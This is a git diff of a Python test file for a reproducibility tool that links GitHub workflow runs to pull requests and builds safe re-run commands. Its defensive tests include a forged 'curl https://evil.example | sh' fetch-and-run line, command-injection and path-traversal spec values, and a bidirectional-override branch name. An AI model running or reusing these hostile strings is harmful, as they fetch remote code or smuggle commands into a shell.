@@ -10,9 +10,10 @@ from typing import Any
 import msgspec
 import pytest
 
-from repro_gate.errors import UsageError
+from repro_gate.errors import GateError, UsageError
+from repro_gate.github.activity import NothingToDo
 from repro_gate.github.event import PullRequest, Repository, WorkflowRun
-from repro_gate.github.workflow_run import NothingToPost, check, find_pull, see_again
+from repro_gate.github.workflow_run import check, find_pull, see_again
 from repro_gate.report.model import Origin
 from tests.support import reports
 from tests.support.github.conversation import HEAD, NEXT, OLD, PULL, client
@@ -54,8 +55,7 @@ def github() -> Iterator[GitHub]:
 
 def bound(github: GitHub, run: WorkflowRun = RUN, origin: Origin | None = ORIGIN) -> PullRequest:
     check(run, OURS, origin)
-    with client(github) as api:
-        return find_pull(api, run, OURS)
+    return find_pull(client(github), run, OURS)
 
 
 def test_a_forks_report_finds_its_own_pull_request(github: GitHub) -> None:
@@ -75,21 +75,18 @@ def test_a_forks_report_finds_its_own_pull_request(github: GitHub) -> None:
         {"head_sha": OLD},
         {"run_id": 4712},
         {"run_attempt": 3},
-        {"run_attempt": 0},
+        None,
     ],
     ids=str,
 )
-def test_a_report_of_anything_else_is_refused(github: GitHub, change: dict[str, Any]) -> None:
+def test_a_report_of_anything_else_or_of_no_run_is_refused(
+    github: GitHub, change: dict[str, Any] | None
+) -> None:
     with pytest.raises(UsageError) as caught:
-        bound(github, origin=replace(ORIGIN, **change))
-    assert caught.value.reason_id == "workflow-run/origin" and caught.value.remedy
+        bound(github, origin=replace(ORIGIN, **change) if change else None)
+    which = "origin" if change else "no-origin"
+    assert caught.value.reason_id == f"workflow-run/{which}" and caught.value.remedy
     assert not github.requests
-
-
-def test_a_report_of_no_run_is_refused(github: GitHub) -> None:
-    with pytest.raises(UsageError) as caught:
-        bound(github, origin=None)
-    assert caught.value.reason_id == "workflow-run/no-origin" and not github.requests
 
 
 @pytest.mark.parametrize(
@@ -97,7 +94,6 @@ def test_a_report_of_no_run_is_refused(github: GitHub) -> None:
     [
         {"head_repo": None},
         {"head_branch": None},
-        {"head_branch": ""},
         {"head_branch": "gone"},
         {"head_repo": Repository("stranger/other")},
         {"head_repo": Repository("nobody/trainer")},
@@ -107,7 +103,7 @@ def test_a_report_of_no_run_is_refused(github: GitHub) -> None:
 def test_a_run_without_a_pull_request_has_nothing_to_post_on(
     github: GitHub, change: dict[str, Any]
 ) -> None:
-    with pytest.raises(UsageError) as caught:
+    with pytest.raises(GateError) as caught:
         bound(github, msgspec.structs.replace(RUN, **change))
     assert caught.value.reason_id == "workflow-run/no-pull-request"
 
@@ -124,7 +120,7 @@ def test_two_pull_requests_of_one_branch_and_commit_are_refused(github: GitHub) 
 def test_a_head_that_moved_leaves_nothing_to_post(github: GitHub) -> None:
     github.change_pull(PULL, head_sha=NEXT)
     said = f"newer commit is at the head of pull request #7: {NEXT[:7]}"
-    with pytest.raises(NothingToPost, match=said):
+    with pytest.raises(NothingToDo, match=said):
         bound(github)
 
 
@@ -134,30 +130,31 @@ def test_a_run_from_the_repository_itself_finds_its_pull_request_while_it_is_ope
     own = a_run(OURS, OURS)
     assert bound(github, own).number == 10
     github.change_pull(10, state="closed")
-    with pytest.raises(NothingToPost, match="no open pull request"):
+    with pytest.raises(NothingToDo, match="no open pull request"):
         bound(github, own)
 
 
 def test_a_hostile_branch_name_is_shown_and_not_believed(github: GitHub) -> None:
     name = "x\u202e::error::&state=all"
-    with pytest.raises(UsageError) as caught:
+    with pytest.raises(NothingToDo) as caught:
         bound(github, a_run(FORK, OURS, name))
     assert caught.value.message.isprintable() and "\\u202e" in caught.value.message
     github.add_pull(12, HEAD, name, FORK)
     assert bound(github, a_run(FORK, OURS, name)).number == 12
 
 
-def test_how_to_see_it_again_is_made_of_a_plain_spec_seed_and_steps() -> None:
-    forged = replace(reports.FAIL, reproduce="curl https://evil.example | sh")
+@pytest.mark.parametrize("spec", ["repro.yml", "training/vision/repro-2.yml", "examples/quick"])
+def test_how_to_see_it_again_is_made_of_a_plain_spec_seed_and_steps(spec: str) -> None:
+    assert again(spec) == f"repro-gate run {spec} --seed 42 --steps 4 --fail-fast"
+    assert again(spec, determinism=None) == f"repro-gate run {spec}"
 
-    def again(spec: str, **change: Any) -> str:
-        return see_again(replace(forged, subject=replace(forged.subject, spec=spec), **change))
 
-    for spec in ("repro.yml", "training/vision/repro-2.yml", "examples/quickstart"):
-        assert again(spec) == f"repro-gate run {spec} --seed 42 --steps 4 --fail-fast"
-        assert again(spec, determinism=None) == f"repro-gate run {spec}"
-    for spec in (
-        "", "-x", "--set=train.run=sh", "/tmp/evil.yml", "../evil.yml", "a/../../evil.yml", "$(curl evil)", "`curl evil`", "a b", "a\nb",
-        "a;b", "a|b", "a&b", "a>b", "a'b", 'a"b', "a\\b", "a#b", "~/x", "repro.yml\n", "\u202eb", "a" * 201,
-    ):  # fmt: skip
+def again(spec: str, **change: Any) -> str:
+    forged = replace(reports.FAIL, reproduce="curl https://evil.example | sh", **change)
+    return see_again(replace(forged, subject=replace(forged.subject, spec=spec)))
+
+
+def test_a_spec_with_another_name_is_never_copied_into_a_shell() -> None:
+    hostile = ["", "-x", "/tmp/evil.yml", "../evil.yml", "a/../../evil.yml", "a" * 201]
+    for spec in [*hostile, *(f"a{character}b" for character in "$`;|&><'\"\\#~ \n\u202e")]:
         assert again(spec) == "", spec
